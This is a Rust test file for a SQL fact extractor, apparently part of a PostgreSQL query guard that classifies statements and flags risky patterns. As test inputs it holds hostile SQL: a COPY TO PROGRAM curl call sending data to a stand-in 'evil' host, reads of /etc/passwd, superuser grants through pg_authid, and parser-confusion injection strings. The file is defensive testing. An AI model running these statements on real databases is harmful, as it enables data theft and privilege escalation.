//! Fact extraction.

use super::super::facts::{
    CopyDirection, CopyFacts, ExtractOptions, StatementKind as K, extract, extract_with,
};
use super::{one, tables};

fn check_tables(cases: &[(&str, K, &[&str])]) {
    for (sql, kind, expected) in cases {
        let facts = one(sql);
        assert_eq!(facts.kind, *kind, "kind of {sql}");
        assert_eq!(tables(&facts), *expected, "tables of {sql}");
    }
}

#[test]
fn joins_and_subqueries() {
    check_tables(&[
        (
            "SELECT a.x FROM a JOIN b ON a.id = b.id LEFT JOIN s.c USING (id) CROSS JOIN d",
            K::Select,
            &["a:r", "b:r", "s.c:r", "d:r"],
        ),
        (
            "SELECT * FROM t WHERE id IN (SELECT id FROM u WHERE EXISTS (SELECT 1 FROM v))",
            K::Select,
            &["t:r", "u:r", "v:r"],
        ),
        (
            "SELECT (SELECT max(x) FROM m) AS mx, y FROM t WHERE z = ANY(SELECT z FROM w)",
            K::Select,
            &["m:r", "t:r", "w:r"],
        ),
        (
            "SELECT * FROM (SELECT * FROM inner_t) sub, LATERAL (SELECT * FROM lat WHERE lat.x = sub.x) l",
            K::Select,
            &["inner_t:r", "lat:r"],
        ),
        (
            "SELECT 1 FROM a UNION SELECT 2 FROM b EXCEPT SELECT 3 FROM c",
            K::Select,
            &["a:r", "b:r", "c:r"],
        ),
        (
            "SELECT * FROM t ORDER BY (SELECT count(*) FROM o) LIMIT (SELECT 1 FROM l)",
            K::Select,
            &["t:r", "o:r", "l:r"],
        ),
        ("VALUES (1), ((SELECT x FROM v))", K::Select, &["v:r"]),
        ("SELECT 1", K::Select, &[]),
    ]);
}

#[test]
fn ctes() {
    check_tables(&[
        // CTE names are not tables, CTE bodies are.
        (
            "WITH a AS (SELECT * FROM base), b AS (WITH c AS (SELECT * FROM a) SELECT * FROM c JOIN other ON true) SELECT * FROM b",
            K::Select,
            &["base:r", "other:r"],
        ),
        // Inside its own (non-recursive) body, a CTE name is the real table.
        (
            "WITH customers AS (SELECT * FROM customers) SELECT * FROM customers",
            K::Select,
            &["customers:r"],
        ),
        // A later CTE is not in scope in an earlier CTE's body.
        (
            "WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b",
            K::Select,
            &["b:r"],
        ),
        (
            "WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r) SELECT * FROM r",
            K::Select,
            &[],
        ),
        // A schema-qualified name is never a CTE.
        (
            "WITH t AS (SELECT 1) SELECT * FROM t, public.t",
            K::Select,
            &["public.t:r"],
        ),
        // CTE scope ends with its query.
        (
            "SELECT * FROM (WITH x AS (SELECT 1) SELECT * FROM x) a, x",
            K::Select,
            &["x:r"],
        ),
        // Subqueries see the CTEs of enclosing queries.
        (
            "WITH x AS (SELECT 1) SELECT * FROM t WHERE EXISTS (SELECT 1 FROM x)",
            K::Select,
            &["t:r"],
        ),
        ("WITH t AS (SELECT 1) TABLE t", K::Select, &[]),
    ]);
}

#[test]
fn dml_inside_ctes() {
    let f = one("WITH x AS (DELETE FROM secrets RETURNING *) SELECT * FROM x");
    assert_eq!(f.kind, K::Delete);
    assert_eq!(*f.kinds, [K::Delete, K::Select]);
    assert_eq!(tables(&f), ["secrets:w"]);
    assert!(f.update_or_delete_without_where);

    let f = one(
        "WITH u AS (UPDATE accounts SET balance = 0 WHERE id = 1 RETURNING *), \
         i AS (INSERT INTO audit SELECT * FROM u RETURNING *) SELECT count(*) FROM i",
    );
    assert_eq!(f.kind, K::Update);
    // `kind` first, then in order of appearance.
    assert_eq!(*f.kinds, [K::Update, K::Select, K::Insert]);
    assert_eq!(tables(&f), ["accounts:w", "audit:w"]);
    assert!(!f.update_or_delete_without_where);

    // A DML target is a real table even when a CTE has the same name.
    let f = one("WITH t AS (SELECT 1) DELETE FROM t WHERE id IN (SELECT * FROM t)");
    assert_eq!(f.kind, K::Delete);
    assert_eq!(*f.kinds, [K::Delete]);
    assert_eq!(tables(&f), ["t:w"]);

    let f = one("WITH d AS (DELETE FROM a RETURNING *) INSERT INTO b SELECT * FROM d");
    assert_eq!(f.kind, K::Delete);
    assert_eq!(*f.kinds, [K::Delete, K::Insert]);
    assert_eq!(tables(&f), ["a:w", "b:w"]);
}

#[test]
fn dml_targets() {
    check_tables(&[
        ("INSERT INTO t (a) VALUES ($1)", K::Insert, &["t:w"]),
        (
            "INSERT INTO s.t SELECT * FROM src ON CONFLICT (id) DO UPDATE SET v = EXCLUDED.v",
            K::Update,
            &["s.t:w", "src:r"],
        ),
        (
            "INSERT INTO s.t SELECT * FROM src ON CONFLICT DO NOTHING",
            K::Insert,
            &["s.t:w", "src:r"],
        ),
        (
            "UPDATE t SET a = u.a, b = (SELECT b FROM secret LIMIT 1) FROM u WHERE t.id = u.id",
            K::Update,
            &["t:w", "secret:r", "u:r"],
        ),
        (
            "DELETE FROM t USING u WHERE t.id = u.id",
            K::Delete,
            &["t:w", "u:r"],
        ),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v \
             WHEN NOT MATCHED THEN INSERT (id, v) VALUES (s.id, s.v)",
            K::Merge,
            &["t:w", "s:r"],
        ),
        ("SELECT * FROM t FOR UPDATE", K::Select, &["t:r"]),
    ]);
}

#[test]
fn ddl_targets() {
    check_tables(&[
        ("CREATE TABLE x AS SELECT * FROM y", K::Ddl, &["x:w", "y:r"]),
        ("CREATE VIEW v AS SELECT * FROM t", K::Ddl, &["v:w", "t:r"]),
        (
            "DROP TABLE IF EXISTS a, s.b CASCADE",
            K::Ddl,
            &["a:w", "s.b:w"],
        ),
        ("TRUNCATE pgbench_history", K::Ddl, &["pgbench_history:w"]),
        ("ALTER TABLE t ADD COLUMN x int", K::Ddl, &["t:w"]),
        ("CREATE INDEX i ON s.t (a)", K::Ddl, &["s.t:w"]),
        ("COMMENT ON COLUMN s.t.c IS 'x'", K::Ddl, &["s.t:w"]),
        ("SELECT * INTO newt FROM t", K::Ddl, &["newt:w", "t:r"]),
        ("VACUUM pgbench_branches", K::Ddl, &["pgbench_branches:w"]),
        ("ANALYZE pgbench_accounts", K::Ddl, &["pgbench_accounts:w"]),
        ("GRANT SELECT ON t TO r", K::Dcl, &["t:w"]),
        ("LOCK TABLE t IN ACCESS EXCLUSIVE MODE", K::Other, &["t:w"]),
    ]);
    // Relation DDL lists every table it changes; other DDL is opaque.
    assert!(!one("DROP TABLE t").opaque);
    assert!(!one("CREATE TABLE x (id int)").opaque);
    for sql in [
        "DROP SCHEMA s CASCADE",
        "CREATE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql",
        "GRANT SELECT ON ALL TABLES IN SCHEMA public TO r",
        "CREATE ROLE r",
        "CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()",
    ] {
        assert!(one(sql).opaque, "{sql} should be opaque");
    }
}

#[test]
fn table_command() {
    check_tables(&[
        ("TABLE t", K::Select, &["t:r"]),
        ("TABLE s.t ORDER BY 1", K::Select, &["s.t:r"]),
        ("SELECT * FROM (TABLE t) x", K::Select, &["t:r"]),
        ("SELECT 1 UNION TABLE other.t", K::Select, &["other.t:r"]),
    ]);
    assert_eq!(&*one("  TABLE   s.t ").text, "TABLE   s.t");
}

#[test]
fn identifiers_are_folded_like_postgres() {
    check_tables(&[
        (
            "SELECT * FROM \"Public\".\"Users\"",
            K::Select,
            &["Public.Users:r"],
        ),
        ("SELECT * FROM Public.Users", K::Select, &["public.users:r"]),
        ("SELECT * FROM \"a\"\"b\"", K::Select, &["a\"b:r"]),
        // db.schema.table keeps schema and table.
        ("SELECT * FROM MyDb.S.T", K::Select, &["s.t:r"]),
    ]);
    // PostgreSQL truncates identifiers to 63 bytes.
    let long = format!("{}xyz", "a".repeat(63));
    let f = one(&format!("SELECT * FROM {long}"));
    assert_eq!(f.tables[0].name, "a".repeat(63));
}

#[test]
fn functions() {
    let f = one(
        "SELECT pg_catalog.pg_read_file('/etc/passwd'), PG_SLEEP(1), \"MyFunc\"(), \
         upper(lower(x)) FROM t WHERE length(y) > 0",
    );
    assert_eq!(
        *f.functions,
        [
            "pg_read_file",
            "pg_sleep",
            "MyFunc",
            "upper",
            "lower",
            "length"
        ]
    );
    assert_eq!(tables(&f), ["t:r"]);

    // Table functions are functions, not tables.
    let f = one("SELECT * FROM pg_ls_dir('.') d, LATERAL pg_read_file(d) c, t");
    assert_eq!(*f.functions, ["pg_ls_dir", "pg_read_file"]);
    assert_eq!(tables(&f), ["t:r"]);

    let f = one("INSERT INTO t VALUES (lo_import('/etc/passwd'))");
    assert_eq!(*f.functions, ["lo_import"]);

    let f = one("CALL myschema.proc(now())");
    assert_eq!(f.kind, K::Call);
    assert_eq!(*f.functions, ["proc", "now"]);

    let f = one("SELECT substring('abc' from 2), extract(year from now())");
    assert_eq!(*f.functions, ["substring", "extract", "now"]);
}

#[test]
fn copy() {
    let cases: &[(&str, &[&str], CopyFacts)] = &[
        (
            "COPY t TO STDOUT",
            &["t:r"],
            CopyFacts {
                direction: CopyDirection::To,
                program: false,
                file: false,
            },
        ),
        (
            "COPY s.t (a, b) FROM STDIN WITH (FORMAT csv)",
            &["s.t:w"],
            CopyFacts {
                direction: CopyDirection::From,
                program: false,
                file: false,
            },
        ),
        (
            "COPY t TO PROGRAM 'curl -d @- http://evil'",
            &["t:r"],
            CopyFacts {
                direction: CopyDirection::To,
                program: true,
                file: false,
            },
        ),
        (
            "COPY t FROM PROGRAM 'cat /etc/passwd'",
            &["t:w"],
            CopyFacts {
                direction: CopyDirection::From,
                program: true,
                file: false,
            },
        ),
        (
            "COPY (select * from secrets) TO '/tmp/f'",
            &["secrets:r"],
            CopyFacts {
                direction: CopyDirection::To,
                program: false,
                file: true,
            },
        ),
    ];
    for (sql, expected_tables, expected) in cases {
        let f = one(sql);
        assert_eq!(f.kind, K::Copy, "{sql}");
        assert_eq!(tables(&f), *expected_tables, "{sql}");
        assert_eq!(f.copy, Some(*expected), "{sql}");
    }
    assert_eq!(one("SELECT 1").copy, None);
}

#[test]
fn without_where() {
    for (sql, expected) in [
        ("UPDATE t SET a = 1", true),
        ("DELETE FROM t", true),
        ("UPDATE t SET a = 1 WHERE id = $1", false),
        ("DELETE FROM t WHERE id = 1", false),
        ("UPDATE t SET a = u.a FROM u", true),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            true,
        ),
        ("SELECT * FROM t", false),
        ("EXPLAIN ANALYZE DELETE FROM t", true),
    ] {
        assert_eq!(one(sql).update_or_delete_without_where, expected, "{sql}");
    }
}

#[test]
fn a_condition_naming_no_column_is_no_where() {
    for sql in [
        "DELETE FROM t WHERE true",
        "DELETE FROM t WHERE 1=1",
        "DELETE FROM t WHERE NOT false",
        "DELETE FROM t WHERE (true)",
        "DELETE FROM t WHERE 'a' = 'a' OR false",
        "DELETE FROM t WHERE 1::bool",
        "DELETE FROM t WHERE CAST(1 AS boolean)",
        "DELETE FROM t WHERE NULL IS NULL",
        "DELETE FROM t WHERE 1 IS NOT NULL",
        "DELETE FROM t WHERE length('x') > 0",
        "DELETE FROM t WHERE now() IS NOT NULL",
        "DELETE FROM t WHERE current_user = 'postgres'",
        "DELETE FROM t WHERE CURRENT_ROLE = 'postgres'",
        "DELETE FROM t WHERE $1",
        "DELETE FROM t WHERE $1 = $2",
        "DELETE FROM t WHERE 1 IN (1, 2)",
        "DELETE FROM t WHERE 2 BETWEEN 1 AND 3",
        "DELETE FROM t WHERE CASE WHEN true THEN true END",
        "DELETE FROM t WHERE EXISTS (SELECT 1)",
        "DELETE FROM t USING u WHERE true",
        "UPDATE t SET x = 1 WHERE true",
        "UPDATE t SET x = 1 WHERE 1 = 1 AND NOT false",
        "UPDATE t SET x = u.x FROM u WHERE true",
        "WITH d AS (DELETE FROM t WHERE true RETURNING *) SELECT * FROM d",
        "INSERT INTO t SELECT * FROM t ON CONFLICT (id) DO UPDATE SET v = 0 WHERE true",
        "MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE",
        "MERGE INTO t USING s ON 1 = 1 WHEN MATCHED THEN UPDATE SET v = 0",
        "MERGE INTO t USING s ON true WHEN MATCHED AND true THEN DELETE",
        "MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE AND true THEN DELETE",
    ] {
        assert!(one(sql).update_or_delete_without_where, "{sql}");
    }
    // A condition naming a column bounds the write, even one every row meets: the fact is
    // about a missing or constant condition, not about how many rows match.
    for sql in [
        "DELETE FROM t WHERE id = id",
        "DELETE FROM t WHERE x IS NOT NULL",
        "DELETE FROM t WHERE t.x OR true",
        "DELETE FROM t WHERE \"current_role\" = 'a'",
        "DELETE FROM t WHERE id = $1",
        "UPDATE t SET x = 1 WHERE id IN (SELECT id FROM u)",
        "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
        "MERGE INTO t USING s ON true WHEN MATCHED AND t.old THEN DELETE",
        "MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)",
        "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET v = 0 WHERE true",
    ] {
        assert!(!one(sql).update_or_delete_without_where, "{sql}");
    }
}

#[test]
fn writes_to_system_catalogs_are_ddl() {
    for (sql, kinds, expected) in [
        (
            "UPDATE pg_catalog.pg_attribute SET attname = 'x_ssn' \
             WHERE attrelid = 'customers'::regclass AND attname = 'ssn'",
            &[K::Ddl, K::Update][..],
            &["pg_catalog.pg_attribute:w"][..],
        ),
        (
            "UPDATE pg_authid SET rolsuper = true WHERE rolname = 'x'",
            &[K::Ddl, K::Update],
            &["pg_authid:w"],
        ),
        (
            "UPDATE \"pg_authid\" SET rolsuper = true WHERE rolname = 'x'",
            &[K::Ddl, K::Update],
            &["pg_authid:w"],
        ),
        (
            "UPDATE PG_CATALOG.PG_CLASS c SET relname = 'x' FROM pg_namespace n WHERE c.oid = 1",
            &[K::Ddl, K::Update],
            &["pg_catalog.pg_class:w", "pg_namespace:r"],
        ),
        (
            "INSERT INTO pg_catalog.pg_auth_members VALUES (1, 2, 3, true)",
            &[K::Ddl, K::Insert],
            &["pg_catalog.pg_auth_members:w"],
        ),
        (
            "DELETE FROM pg_largeobject WHERE loid = 1",
            &[K::Ddl, K::Delete],
            &["pg_largeobject:w"],
        ),
        (
            "INSERT INTO information_schema.sql_features SELECT * FROM t \
             ON CONFLICT DO NOTHING",
            &[K::Ddl, K::Insert],
            &["information_schema.sql_features:w", "t:r"],
        ),
        (
            "INSERT INTO pg_catalog.pg_description VALUES (1, 2, 0, 'x') \
             ON CONFLICT DO UPDATE SET description = 'y'",
            &[K::Ddl, K::Insert, K::Update],
            &["pg_catalog.pg_description:w"],
        ),
        (
            "MERGE INTO pg_catalog.pg_attribute a USING t ON a.attnum = t.id \
             WHEN MATCHED THEN UPDATE SET attname = t.v",
            &[K::Ddl, K::Merge, K::Update],
            &["pg_catalog.pg_attribute:w", "t:r"],
        ),
        (
            "WITH u AS (UPDATE pg_catalog.pg_authid SET rolsuper = true WHERE oid = 10 \
             RETURNING oid) SELECT * FROM u",
            &[K::Ddl, K::Select, K::Update],
            &["pg_catalog.pg_authid:w"],
        ),
        (
            "COPY pg_catalog.pg_authid FROM STDIN",
            &[K::Ddl, K::Copy],
            &["pg_catalog.pg_authid:w"],
        ),
        (
            "EXPLAIN ANALYZE DELETE FROM pg_catalog.pg_proc WHERE oid = 1",
            &[K::Ddl, K::Delete],
            &["pg_catalog.pg_proc:w"],
        ),
        (
            "TRUNCATE pg_catalog.pg_statistic",
            &[K::Ddl],
            &["pg_catalog.pg_statistic:w"],
        ),
    ] {
        let f = one(sql);
        assert_eq!(f.kind, K::Ddl, "{sql}");
        assert_eq!(*f.kinds, *kinds, "{sql}");
        assert_eq!(tables(&f), expected, "{sql}");
    }
    // Reading a catalog, writing a table read from one, or copying a catalog out are not.
    for (sql, kind) in [
        ("SELECT * FROM pg_catalog.pg_authid", K::Select),
        (
            "UPDATE t SET v = (SELECT relname FROM pg_class LIMIT 1) WHERE id = 1",
            K::Update,
        ),
        (
            "INSERT INTO t SELECT oid, relname FROM pg_catalog.pg_class",
            K::Insert,
        ),
        ("COPY pg_catalog.pg_class TO STDOUT", K::Copy),
        ("UPDATE public.pg_notes SET v = 1 WHERE id = 1", K::Update),
        ("UPDATE pg_temp.scratch SET v = 1 WHERE id = 1", K::Update),
        ("SELECT * FROM pg_class FOR UPDATE", K::Select),
    ] {
        let f = one(sql);
        assert_eq!(f.kind, kind, "{sql}");
        assert!(!f.kinds.contains(&K::Ddl), "{sql}");
    }
}

#[test]
fn explain() {
    let f = one("EXPLAIN ANALYZE DELETE FROM t");
    assert_eq!(
        (f.kind, f.explain, f.explain_analyze),
        (K::Delete, true, true)
    );
    assert_eq!(tables(&f), ["t:w"]);
    let f = one("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1 WHERE id = 1");
    assert_eq!(
        (f.kind, f.explain, f.explain_analyze),
        (K::Update, true, true)
    );
    let f = one("EXPLAIN (ANALYZE false) SELECT 1");
    assert_eq!(
        (f.kind, f.explain, f.explain_analyze),
        (K::Select, true, false)
    );
    let f = one("EXPLAIN SELECT * FROM t");
    assert_eq!(
        (f.kind, f.explain, f.explain_analyze),
        (K::Select, true, false)
    );
    assert!(!one("SELECT 1").explain);
}

#[test]
fn explain_analyse_is_explain_analyze() {
    // PostgreSQL accepts the British spelling as the same option.
    let f = one("EXPLAIN (ANALYSE) DELETE FROM t");
    assert_eq!(
        (f.kind, f.explain, f.explain_analyze),
        (K::Delete, true, true)
    );
    assert!(one("EXPLAIN (VERBOSE, analyse true) SELECT 1").explain_analyze);
    assert!(!one("EXPLAIN (ANALYSE false) SELECT 1").explain_analyze);
}

#[test]
fn statement_kinds() {
    let cases: &[(&str, K)] = &[
        ("SELECT 1", K::Select),
        ("SHOW search_path", K::Select),
        ("DECLARE c CURSOR FOR SELECT * FROM t", K::Select),
        ("FETCH 10 FROM c", K::Select),
        ("CLOSE c", K::Select),
        ("CREATE TABLE t (id int)", K::Ddl),
        ("ALTER TABLE t DROP COLUMN x", K::Ddl),
        ("DROP VIEW v", K::Ddl),
        ("COMMENT ON TABLE t IS 'x'", K::Ddl),
        ("CREATE EXTENSION dblink", K::Ddl),
        ("LOAD 'plpgsql'", K::Ddl),
        ("REFRESH MATERIALIZED VIEW mv", K::Ddl),
        ("VACUUM ANALYZE", K::Ddl),
        ("ANALYZE", K::Ddl),
        ("GRANT SELECT ON t TO r", K::Dcl),
        ("REVOKE ALL ON t FROM r", K::Dcl),
        ("GRANT admin TO bob", K::Dcl),
        ("CREATE ROLE r", K::Dcl),
        ("ALTER ROLE r SUPERUSER", K::Dcl),
        ("ALTER USER u WITH PASSWORD 'x'", K::Dcl),
        ("DROP ROLE r", K::Dcl),
        ("CREATE USER u", K::Dcl),
        ("SET ROLE postgres", K::Dcl),
        ("SET SESSION AUTHORIZATION postgres", K::Dcl),
        ("RESET ROLE", K::Dcl),
        ("CREATE POLICY p ON t USING (true)", K::Dcl),
        ("BEGIN", K::Transaction),
        ("BEGIN ISOLATION LEVEL SERIALIZABLE", K::Transaction),
        ("START TRANSACTION READ ONLY", K::Transaction),
        ("COMMIT", K::Transaction),
        ("END", K::Transaction),
        ("ROLLBACK", K::Transaction),
        ("ABORT", K::Transaction),
        ("SAVEPOINT a", K::Transaction),
        ("RELEASE SAVEPOINT a", K::Transaction),
        ("ROLLBACK TO SAVEPOINT a", K::Transaction),
        ("SET application_name = 'x'", K::Set),
        ("SET search_path TO public, pg_catalog", K::Set),
        ("SET LOCAL statement_timeout = '5s'", K::Set),
        ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", K::Set),
        ("RESET ALL", K::Set),
        ("DISCARD ALL", K::Set),
        ("CALL p()", K::Call),
        ("LISTEN ch", K::Other),
        ("NOTIFY ch, 'x'", K::Other),
        ("UNLISTEN *", K::Other),
        ("PREPARE p (int) AS SELECT $1", K::Other),
        ("EXECUTE p(1)", K::Other),
        ("DEALLOCATE p", K::Other),
        ("DEALLOCATE ALL", K::Other),
    ];
    for (sql, kind) in cases {
        let f = one(sql);
        assert_eq!(f.kind, *kind, "{sql}");
        assert_eq!(f.kinds[0], *kind, "{sql}");
    }
}

#[test]
fn prepare_and_execute() {
    // PREPARE is judged by what it prepares.
    let f = one("PREPARE p AS DELETE FROM t");
    assert_eq!(f.kind, K::Delete);
    assert_eq!(*f.kinds, [K::Delete, K::Other]);
    assert_eq!(tables(&f), ["t:w"]);
    // EXECUTE cannot be judged.
    let f = one("EXECUTE p(1)");
    assert!(f.opaque_execute && f.opaque);
    assert!(!one("DEALLOCATE p").opaque_execute);
}

#[test]
fn statements_sqlparser_cannot_parse_are_classified_by_keyword() {
    let cases: &[(&str, K)] = &[
        ("DO $$ BEGIN PERFORM 1; END $$", K::Do),
        ("DO LANGUAGE plpgsql $$ BEGIN NULL; END $$", K::Do),
        ("CLUSTER t", K::Ddl),
        ("REINDEX TABLE t", K::Ddl),
        ("CHECKPOINT", K::Ddl),
        ("VACUUM (VERBOSE, ANALYZE) t", K::Ddl),
        ("ALTER SYSTEM SET work_mem = '1GB'", K::Ddl),
        ("CREATE PUBLICATION p FOR TABLE t", K::Ddl),
        ("IMPORT FOREIGN SCHEMA s FROM SERVER x INTO y", K::Ddl),
        ("SECURITY LABEL ON TABLE t IS 'x'", K::Dcl),
        ("PREPARE TRANSACTION 'x'", K::Transaction),
        ("COMMIT PREPARED 'x'", K::Transaction),
        ("ROLLBACK PREPARED 'x'", K::Transaction),
    ];
    for (sql, kind) in cases {
        let f = one(sql);
        assert_eq!(f.kind, *kind, "{sql}");
        assert!(f.opaque, "{sql} should be opaque");
        assert!(f.tables.is_empty(), "{sql}");
        assert_eq!(&*f.text, *sql);
    }
    // Function calls in DO bodies (and in dynamic SQL in them) are found.
    let f = one(
        "DO $$ BEGIN PERFORM pg_catalog.pg_read_file('/etc/passwd'); \
         EXECUTE 'SELECT lo_export(1, ''/tmp/x'')'; END $$",
    );
    assert!(f.functions.contains(&"pg_read_file".to_string()));
    assert!(f.functions.contains(&"lo_export".to_string()));
    // Still refused: other statements it does not know.
    assert!(extract("selec 1").is_err());
}

#[test]
fn set_constraints_and_move_are_known_whole_by_their_shape() {
    let cases: &[(&str, K)] = &[
        ("SET CONSTRAINTS ALL DEFERRED", K::Set),
        ("set constraints all immediate", K::Set),
        ("SET CONSTRAINTS a, s.b, \"Odd Name\" IMMEDIATE", K::Set),
        ("SET CONSTRAINTS a DEFERRED;", K::Set),
        ("MOVE c", K::Select),
        ("MOVE 1 FROM c", K::Select),
        ("MOVE FORWARD ALL IN c", K::Select),
        ("MOVE BACKWARD -2 FROM \"my cursor\"", K::Select),
        ("MOVE ABSOLUTE 5 IN c", K::Select),
    ];
    for (sql, kind) in cases {
        let f = one(sql);
        assert_eq!(f.kind, *kind, "{sql}");
        assert!(!f.opaque, "{sql}");
        assert!(f.tables.is_empty() && f.functions.is_empty(), "{sql}");
    }
    let all = extract("SET CONSTRAINTS ALL DEFERRED; DELETE FROM t").unwrap();
    assert_eq!(all.len(), 2);
    assert_eq!(
        (all[0].kind, &*all[0].text),
        (K::Set, "SET CONSTRAINTS ALL DEFERRED")
    );
    assert_eq!(all[1].kind, K::Delete);
    // Off the exact shape: refused.
    for sql in [
        "SET CONSTRAINTS DEFERRED",
        "SET CONSTRAINTS ALL",
        "SET CONSTRAINTS ALL, a DEFERRED",
        "SET CONSTRAINTS a,, b DEFERRED",
        "SET CONSTRAINTS a b DEFERRED",
        "SET CONSTRAINTS a, DEFERRED",
        "SET CONSTRAINTS pg_read_file('/etc/passwd') DEFERRED",
        "SET CONSTRAINTS 'a' DEFERRED",
        "MOVE",
        "MOVE 1 FROM",
        "MOVE 1 FROM c, d",
        "MOVE (SELECT 1) FROM c",
        "MOVE 1 FROM c WHERE true",
        "MOVE NEXT FROM pg_sleep(1)",
    ] {
        assert!(extract(sql).is_err(), "{sql} should be refused");
    }
}

#[test]
fn multi_statement_strings() {
    // Each statement's text is its slice of the query string, as written.
    let all = extract("select 1; drop  table x").unwrap();
    assert_eq!(all.len(), 2);
    assert_eq!((all[0].kind, all[0].text.as_ref()), (K::Select, "select 1"));
    assert_eq!(
        (all[1].kind, all[1].text.as_ref()),
        (K::Ddl, "drop  table x")
    );
    assert_eq!(tables(&all[1]), ["x:w"]);

    let all = extract("BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;").unwrap();
    let kinds: Vec<K> = all.iter().map(|f| f.kind).collect();
    assert_eq!(kinds, [K::Transaction, K::Update, K::Transaction]);

    // Unparseable statements next to ones that need the keyword fallback.
    let all = extract("SELECT 'é'; DO $$ BEGIN NULL; END $$; SELECT 2").unwrap();
    let kinds: Vec<K> = all.iter().map(|f| f.kind).collect();
    assert_eq!(kinds, [K::Select, K::Do, K::Select]);
    assert_eq!(&*all[1].text, "DO $$ BEGIN NULL; END $$");
    let all =
        extract("SELECT 'ü';\n  DO $$\n BEGIN NULL; END\n $$ ;\nCLUSTER t;\n\tCHECKPOINT").unwrap();
    let texts: Vec<&str> = all.iter().map(|f| f.text.as_ref()).collect();
    assert_eq!(
        texts,
        [
            "SELECT 'ü'",
            "DO $$\n BEGIN NULL; END\n $$",
            "CLUSTER t",
            "CHECKPOINT"
        ]
    );
    assert!(extract("DO $$ $$; selec 1").is_err());

    // Semicolons inside strings, dollar quotes and comments do not split.
    let all = extract("SELECT 'a;b', $$c;d$$, $x$ ; $x$ /* ; */ -- ;\n").unwrap();
    assert_eq!(all.len(), 1);
}

#[test]
fn empty_queries() {
    for sql in ["", "   ", ";", " ;; -- comment\n ;", "/* only a comment */"] {
        assert!(extract(sql).unwrap().is_empty(), "{sql:?}");
    }
}

#[test]
fn no_statement_hides_behind_a_stray_end() {
    // sqlparser's own loop stops silently at `END` after a statement.
    assert!(extract("SELECT 1 END; DROP TABLE x").is_err());
}

#[test]
fn backslashes_in_strings() {
    // standard_conforming_strings = on (default): '\' is a complete string, so
    // the DROP is a separate statement, as PostgreSQL sees it.
    let all = extract(r"SELECT '\'; DROP TABLE x; --'").unwrap();
    assert_eq!(all.len(), 2);
    assert_eq!(all[1].kind, K::Ddl);
    // E'' strings do use backslash escapes.
    let all = extract(r"SELECT E'\''; DROP TABLE x").unwrap();
    assert_eq!(all.len(), 2);
    // With standard_conforming_strings off, PostgreSQL would read
    // 'a\' , ' as one string and run the DROP: refuse.
    let off = ExtractOptions {
        standard_conforming_strings: false,
    };
    let smuggle = r"SELECT 'a\' , '; DROP TABLE x; --'";
    assert_eq!(extract(smuggle).unwrap().len(), 1);
    let err = extract_with(smuggle, &off).unwrap_err();
    assert!(err.message.contains("standard_conforming_strings"), "{err}");
    assert!(extract_with("SELECT 'plain', E'\\n'", &off).is_ok());
}

#[test]
fn turning_standard_conforming_strings_off_is_refused() {
    for sql in [
        "SET standard_conforming_strings = off",
        "SET SESSION standard_conforming_strings TO false",
        "SET standard_conforming_strings TO DEFAULT",
        "RESET standard_conforming_strings",
        "SELECT set_config('standard_conforming_strings', 'off', false)",
        "SELECT pg_catalog.set_config('STANDARD_CONFORMING_STRINGS', $1, false)",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(
            err.message.contains("standard_conforming_strings"),
            "{sql}: {err}"
        );
    }
    assert!(extract("SET standard_conforming_strings = on").is_ok());
    assert!(extract("SELECT set_config('search_path', '', false)").is_ok());
}

#[test]
fn unicode_escaped_identifiers_are_refused() {
    // sqlparser reads U&"..." as `U & "..."`; PostgreSQL as pg_read_file.
    let err = extract(r#"SELECT U&"pg_read_fil\0065"('/etc/passwd')"#).unwrap_err();
    assert!(err.message.contains("Unicode"), "{err}");
    assert!(extract(r#"SELECT * FROM u&"secr\0065ts""#).is_err());
    // A bitwise AND with a spaced operand is fine.
    assert!(extract(r#"SELECT u & "v" FROM t"#).is_ok());
}

#[test]
fn dollar_tokens_postgres_reads_differently_are_refused() {
    // sqlparser reads `$1a$ ... $1a$` as one string; PostgreSQL reads a parameter `$1`, then
    // SQL (before version 15, `a$` as the parameter's column label).
    for sql in [
        "SELECT $1a$, pg_read_file($$/etc/hostname$$) AS x, $1a$",
        "SELECT $1$, pg_read_file($$/etc/hostname$$) AS x, $1$",
        "SELECT $1$x$1$",
        // `€` ends sqlparser's tag (a parameter `$a`, then a word); PostgreSQL takes `$a€$` as
        // a tag, so the string is on the other side for each of them.
        "SELECT $a€$ FROM t WHERE x = '$a€$, pg_read_file($$/etc/hostname$$) AS y --'",
        "SELECT $1a",
    ] {
        let err = extract(sql).unwrap_err();
        assert!(err.message.contains("dollar-quote tag"), "{sql}: {err}");
    }
    for sql in [
        "SELECT $_a$x$_a$",
        "SELECT $ä$x$ä$",
        "SELECT $a1$x$a1$",
        "SELECT $$x$$",
        "SELECT $1, $23",
    ] {
        assert!(extract(sql).is_ok(), "{sql}");
    }
}

#[test]
fn statements_are_counted_as_the_parser_splits_them() {
    use super::super::facts::more_statements_than;
    // (query, statements)
    for (sql, n) in [
        ("", 0),
        (" ;; -- ;\n", 0),
        ("SELECT 1", 1),
        ("SELECT 1;", 1),
        ("SELECT 1;;; SELECT 2", 2),
        ("SELECT 1; SELECT 2; /* ; */ SELECT 3 -- ;", 3),
        // `;` inside strings, identifiers, dollar quotes, comments and parentheses.
        (
            "SELECT ';', \";\", $$;$$, $x$;$x$, E'\\';' /* ; */; SELECT 2",
            2,
        ),
        ("SELECT (1; 2); SELECT 3", 2),
    ] {
        let statements = extract(sql).map(|s| s.len());
        if !sql.contains('(') {
            assert_eq!(statements, Ok(n), "{sql}");
        }
        for limit in 1..=4 {
            assert_eq!(
                more_statements_than(sql, limit),
                n > limit,
                "{sql} with {limit}"
            );
        }
    }
